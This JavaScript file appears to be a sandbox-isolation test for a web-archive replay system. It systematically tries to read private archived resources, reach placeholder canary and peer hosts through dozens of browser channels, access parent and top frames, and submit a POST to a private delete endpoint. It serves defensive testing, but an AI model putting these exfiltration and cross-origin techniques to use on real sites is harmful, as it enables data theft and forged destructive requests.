(async () => {
  const secrets = [HOST + "/", HOST + "/private/TIMESTAMPmp_/http://private.example/", HOST + "/private/TIMESTAMPid_/http://private.example/s.json"];
  const attempt = async (name, run) => {
    let result;
    try {
      result = await Promise.race([run(), new Promise((done) => setTimeout(() => done("silence"), 700))]);
    } catch (error) {
      result = "refused";
    }
    say(name + " " + String(result).slice(0, 80).replace(/[^\w .]/g, "_"));
  };
  const read = async (url, init) => (await fetch(url, init)).text();
  await attempt("own", () => read(HOST + "/evil/TIMESTAMPmp_/http://hostile.example/ok.txt").catch(() => read("/ok.txt")));
  for (const url of secrets.concat(["CANARY/fetch"])) {
    await attempt("fetch", () => read(url));
    await attempt("no-cors", () => read(url, { mode: "no-cors" }).then((text) => "sent" + text));
    await attempt("with-cookies", () => read(url, { credentials: "include" }));
    await attempt("xhr", () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.onload = () => done(request.responseText);
      request.onerror = fail;
      request.send();
    }));
    await attempt("import", () => import(url).then(() => "REACHED"));
    await attempt("frame", () => new Promise((done) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try {
          done(frame.contentDocument.documentElement.textContent);
        } catch (_) {
          done("closed");
        }
      };
      frame.src = url;
      document.body.append(frame);
    }));
    await attempt("object", () => new Promise((done, fail) => {
      const object = document.createElement("object");
      object.onload = () => done(object.contentDocument ? object.contentDocument.documentElement.textContent : "closed");
      object.onerror = fail;
      object.data = url;
      document.body.append(object);
    }));
  }
  await attempt("script", () => new Promise((done, fail) => {
    const script = document.createElement("script");
    script.onload = () => done(window.SECRET);
    script.onerror = fail;
    script.src = HOST + "/private/TIMESTAMPjs_/http://private.example/s.js";
    document.body.append(script);
  }));
  await attempt("beacon", () => navigator.sendBeacon("CANARY/beacon", "x"));
  await attempt("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket("ws://PEER/");
    socket.onopen = () => done("REACHED");
    socket.onerror = fail;
  }));
  await attempt("events", () => new Promise((done, fail) => {
    const events = new EventSource("CANARY/events");
    events.onopen = () => done("REACHED");
    events.onerror = fail;
  }));
  await attempt("worker", () => new Promise((done, fail) => {
    const text = `(async () => { let all = ""; for (const url of ${JSON.stringify(secrets.concat(["CANARY/worker"]))}) {
      try { all += await (await fetch(url)).text(); } catch (_) { all += " refused"; }
      try { importScripts(url); all += " REACHED"; } catch (_) {} }
      postMessage(all); })();`;
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    worker.onmessage = (event) => done(event.data);
    worker.onerror = fail;
  }));
  await attempt("service-worker", () => navigator.serviceWorker.register(HOST + "/evil/TIMESTAMPjs_/http://hostile.example/ok.txt").then(() => "REACHED"));
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon", "stylesheet"]) {
    await attempt(rel, async () => {
      const link = document.createElement("link");
      link.rel = rel;
      link.as = "script";
      link.href = "CANARY/hint-" + rel;
      document.head.append(link);
      const holder = document.createElement("div");
      holder.innerHTML = `<link rel=${rel} href="CANARY/markup-${rel}">`;
      document.head.append(holder.firstChild);
      return "tried";
    });
  }
  await attempt("picture", async () => {
    new Image().src = "CANARY/picture";
    document.body.insertAdjacentHTML("beforeend", "<img src='CANARY/adjacent'><p style='background:url(CANARY/p)'>");
    document.body.style.cssText = "background: url(CANARY/css)";
    const audio = new Audio("CANARY/audio");
    audio.load();
    return "tried";
  });
  await attempt("rules", async () => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["CANARY/rules"] }], prerender: [{ source: "list", urls: ["CANARY/rules-render"] }] });
    document.head.append(rules);
    return "tried";
  });
  await attempt("cookie", () => { document.cookie = "mark=1; path=/"; return "set"; });
  await attempt("parent", () => (window.parent === window ? "none" : parent.document.documentElement.textContent + "REACHED"));
  await attempt("top", () => { if (window.top !== window) { top.location = "CANARY/top"; } return "tried"; });
  await attempt("top-storage", () => (window.top === window ? "none" : "REACHED" + top.localStorage.length));
  await attempt("open", () => { const other = window.open("CANARY/open"); return other ? "REACHED" : "null"; });
  await attempt("open-server", () => { const other = window.open(HOST + "/private/TIMESTAMPmp_/http://private.example/"); return other ? "REACHED" : "null"; });
  await attempt("link", () => {
    const link = document.createElement("a");
    link.href = "CANARY/link";
    link.target = "_blank";
    link.ping = "CANARY/ping";
    document.body.append(link);
    link.dispatchEvent(new MouseEvent("click", { cancelable: true }));
    return "tried";
  });
  await attempt("post", () => {
    const frame = document.createElement("iframe");
    frame.name = "posted";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "post";
    form.action = HOST + "/private/delete";
    form.target = "posted";
    document.body.append(form);
    HTMLFormElement.prototype.submit.call(form);
    const out = form.cloneNode(true);
    out.action = "CANARY/form";
    document.body.append(out);
    HTMLFormElement.prototype.submit.call(out);
    return "tried";
  });
  say("done");
  await attempt("rtc", async () => {
    const Connection = window.RTCPeerConnection;
    if (!Connection) return "none";
    const connection = new Connection({ iceServers: [{ urls: "stun:PEER" }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((done) => setTimeout(done, 500));
    return "tried";
  });
})();
